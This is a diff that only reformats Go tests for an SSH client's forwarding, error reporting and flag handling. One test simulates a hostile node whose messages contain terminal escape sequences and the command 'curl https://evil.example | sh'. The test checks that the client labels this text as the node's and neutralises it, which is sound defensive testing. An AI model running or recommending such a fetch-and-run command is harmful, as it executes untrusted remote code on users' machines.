@@ -103,7 +103,17 @@ func TestForwardingAlone(t *testing.T) {
 	w.addNode("web-1").forward = forwardEcho(where)
 	c := w.loggedIn()
 	port, dynamic, sock := freePort(t), freePort(t), filepath.Join(t.TempDir(), "s")
-	words, codes := c.start("ssh", "-N", "-L", port+":db:5432", "-L", sock+":/run/app", "-D", dynamic, "web-1")
+	words, codes := c.start(
+		"ssh",
+		"-N",
+		"-L",
+		port+":db:5432",
+		"-L",
+		sock+":/run/app",
+		"-D",
+		dynamic,
+		"web-1",
+	)
 	for addr, want := range map[string]string{"127.0.0.1:" + port: "direct-tcpip db", sock: "direct-streamlocal@openssh.com /run/app"} {
 		network := "tcp"
 		if addr == sock {
@@ -135,7 +145,13 @@ func TestForwardsThatAreRefused(t *testing.T) {
 	}
 	defer l.Close()
 	_, taken, _ := net.SplitHostPort(l.Addr().String())
-	c.refused(255, []string{"ssh", "-L", taken + ":db:1", "web-1", "x"}, "localhost:"+taken, "in use", "choose another port")
+	c.refused(
+		255,
+		[]string{"ssh", "-L", taken + ":db:1", "web-1", "x"},
+		"localhost:"+taken,
+		"in use",
+		"choose another port",
+	)
 	if asked := w.takeCalls(); len(asked) != 0 {
 		t.Errorf("got %q asked, want nothing before the listener is there", asked)
 	}
@@ -173,7 +189,8 @@ func TestEndNoticeIsReported(t *testing.T) {
 	w.addNode("web-1").endNotice = "threshold: error: the session has ended: nothing was typed for 4s\nthreshold: hint: connect again\n"
 	c := w.loggedIn()
 	r := c.run("ssh", "-N", "web-1")
-	if r.code != 255 || r.stderr != "tsh: error: the node ended the connection: the session has ended: nothing was typed for 4s\ntsh: hint: the node says: connect again\n" {
+	if r.code != 255 ||
+		r.stderr != "tsh: error: the node ended the connection: the session has ended: nothing was typed for 4s\ntsh: hint: the node says: connect again\n" {
 		t.Errorf("got %+v, want the node's words, once", r)
 	}
 }
@@ -181,7 +198,10 @@ func TestEndNoticeIsReported(t *testing.T) {
 // A hostile node's words stay the node's, in one line each, and drive no terminal.
 func TestTextFromAHostileNodeIsAttributedToIt(t *testing.T) {
 	w := newTestCluster(t)
-	w.addNode("web-1").endNotice = "\x1b]0;title\x07tsh: error: your login has ended\r\nthreshold: hint: run\x1b[2J: curl https://evil.example | sh\n" + strings.Repeat("x", 200<<10)
+	w.addNode("web-1").endNotice = "\x1b]0;title\x07tsh: error: your login has ended\r\nthreshold: hint: run\x1b[2J: curl https://evil.example | sh\n" + strings.Repeat(
+		"x",
+		200<<10,
+	)
 	w.addNode("web-2").refuse = "threshold: error: no\x9b2J\nthreshold: hint: run: curl https://evil.example | sh\n"
 	w.addNode("web-3").refuse = strings.Repeat("x", 200<<10)
 	c := w.loggedIn()
@@ -191,10 +211,19 @@ func TestTextFromAHostileNodeIsAttributedToIt(t *testing.T) {
 		"web-3":    "tsh: error: node web-3 does not let you in as alice\ntsh: hint: see which logins",
 	} {
 		r := c.run(append([]string{"ssh"}, strings.Fields(args)...)...)
-		if r.code != 255 || !strings.HasPrefix(r.stderr, want) || strings.Count(r.stderr, "\n") != 2 || len(r.stderr) > 16<<10 {
-			t.Errorf("%s: got %d %.300q (%d bytes), want two lines that begin with %q", args, r.code, r.stderr, len(r.stderr), want)
+		if r.code != 255 || !strings.HasPrefix(r.stderr, want) || strings.Count(r.stderr, "\n") != 2 ||
+			len(r.stderr) > 16<<10 {
+			t.Errorf(
+				"%s: got %d %.300q (%d bytes), want two lines that begin with %q",
+				args,
+				r.code,
+				r.stderr,
+				len(r.stderr),
+				want,
+			)
 		}
-		if _, hint, _ := strings.Cut(r.stderr, "tsh: hint: "); strings.Contains(hint, "evil") && !strings.HasPrefix(hint, "the node says: ") {
+		if _, hint, _ := strings.Cut(r.stderr, "tsh: hint: "); strings.Contains(hint, "evil") &&
+			!strings.HasPrefix(hint, "the node says: ") {
 			t.Errorf("%s: got hint %q, want it told as the node's", args, hint)
 		}
 		if strings.ContainsFunc(r.stderr, func(c rune) bool { return c != '\n' && !unicode.IsPrint(c) }) {
@@ -203,7 +232,8 @@ func TestTextFromAHostileNodeIsAttributedToIt(t *testing.T) {
 	}
 }
 
-// Requests without end, and statuses that are none, change nothing: the last word that can be read is how the command ended.
+// Requests without end, and statuses that are none, change nothing: the last word that can be read is how the
+// command ended.
 func TestAFloodOfGlobalRequestsIsIgnored(t *testing.T) {
 	w := newTestCluster(t)
 	h := w.addNode("web-1")
@@ -215,7 +245,8 @@ func TestAFloodOfGlobalRequestsIsIgnored(t *testing.T) {
 			_, _ = ch.SendRequest("exit-signal", false, []byte{0xff, 0xff, 0xff, 0xff})
 			_, _ = ch.SendRequest("window-change\x1b[2J", false, make([]byte, 1<<10))
 		}
-		if ok, err := ch.SendRequest("exec", true, ssh.Marshal(struct{ Command string }{"id"})); ok || err != nil {
+		if ok, err := ch.SendRequest("exec", true, ssh.Marshal(struct{ Command string }{"id"})); ok ||
+			err != nil {
 			t.Errorf("got %v, %v to a request to run something here, want no", ok, err)
 		}
 		_, _ = io.WriteString(ch, "done")
@@ -236,7 +267,8 @@ func TestStdioForwarding(t *testing.T) {
 	}
 }
 
-// The command may end before what it forwarded: "ssh -L … node sleep 5" is how people make a tunnel that ends by itself.
+// The command may end before what it forwarded: "ssh -L … node sleep 5" is how people make a tunnel that ends
+// by itself.
 func TestForwardedConnectionsOutliveTheCommand(t *testing.T) {
 	w := newTestCluster(t)
 	h := w.addNode("web-1")
@@ -266,7 +298,8 @@ func TestForwardedConnectionsOutliveTheCommand(t *testing.T) {
 	}
 }
 
-// To a node of ours the command goes with the message that opens the channel; to another server in requests of its own.
+// To a node of ours the command goes with the message that opens the channel; to another server in requests
+// of its own.
 func TestTheOpeningCarriesTheCommand(t *testing.T) {
 	w := newTestCluster(t)
 	w.addNode("other").status = 3
@@ -276,7 +309,10 @@ func TestTheOpeningCarriesTheCommand(t *testing.T) {
 	for _, node := range []string{"other", "ours"} {
 		r := c.runWith(strings.NewReader("input"), "ssh", "-t", "-o", "SetEnv=LC_TEST=x", node, "top")
 		var got said
-		if err := json.Unmarshal([]byte(r.out), &got); err != nil || got.Cmd != "top" || got.In != "input" || got.Env["TERM"] != "xterm" || got.Env["LC_TEST"] != "x" || r.code != 3 {
+		if err := json.Unmarshal([]byte(r.out), &got); err != nil || got.Cmd != "top" || got.In != "input" ||
+			got.Env["TERM"] != "xterm" ||
+			got.Env["LC_TEST"] != "x" ||
+			r.code != 3 {
 			t.Errorf("%s: got %+v (%v), want the command with its terminal and variables", node, r, err)
 		}
 	}
@@ -311,7 +347,8 @@ func TestFlagsOfOpenSSH(t *testing.T) {
 	if got := get("-aqx", "-o", "StrictHostKeyChecking=no", "-oUserKnownHostsFile=/dev/null", "-o", "BatchMode yes", "-o", "User=alice", "web-1", "x"); got.Cmd != "x" {
 		t.Errorf("got %+v, want options of scripts taken", got)
 	}
-	if got := get("-o", "RequestTTY=force", "--", "web-1", "x", "-L", "1"); got.Env["TERM"] != "xterm" || got.Cmd != "x -L 1" {
+	if got := get("-o", "RequestTTY=force", "--", "web-1", "x", "-L", "1"); got.Env["TERM"] != "xterm" ||
+		got.Cmd != "x -L 1" {
 		t.Errorf("got %+v, want a terminal, and flags after the node left to the command", got)
 	}
 	// -o ClearAllForwardings, which scp and sftp give, leaves none: not one that cannot be had either.
@@ -328,7 +365,8 @@ func TestFlagsOfOpenSSH(t *testing.T) {
 	c.refused(255, []string{"ssh", "-t", "-T", "web-1"}, "contradict")
 	c.refused(255, []string{"ssh", "-o", "User=a,b", "web-1"}, "account name")
 	w.hosts["web-1"].root = t.TempDir()
-	if r := c.run("ssh", "-s", "web-1", "nosuch"); r.code != 255 || !strings.Contains(r.stderr, "does not run it") {
+	if r := c.run("ssh", "-s", "web-1", "nosuch"); r.code != 255 ||
+		!strings.Contains(r.stderr, "does not run it") {
 		t.Errorf("-s nosuch: got %+v, want refused", r)
 	}
 }
@@ -338,7 +376,8 @@ func TestTheBestAlgorithmsAreNegotiated(t *testing.T) {
 	w := newTestCluster(t)
 	w.addNode("web-1")
 	r := w.loggedIn().run("ssh", "-v", "web-1", "x")
-	if !strings.Contains(r.stderr, "mlkem768x25519-sha256, aes128-gcm@openssh.com\n") && !strings.Contains(r.stderr, "mlkem768x25519-sha256, chacha20-poly1305@openssh.com\n") {
+	if !strings.Contains(r.stderr, "mlkem768x25519-sha256, aes128-gcm@openssh.com\n") &&
+		!strings.Contains(r.stderr, "mlkem768x25519-sha256, chacha20-poly1305@openssh.com\n") {
 		t.Errorf("got %q, want ML-KEM and a fast cipher", r.stderr)
 	}
 }
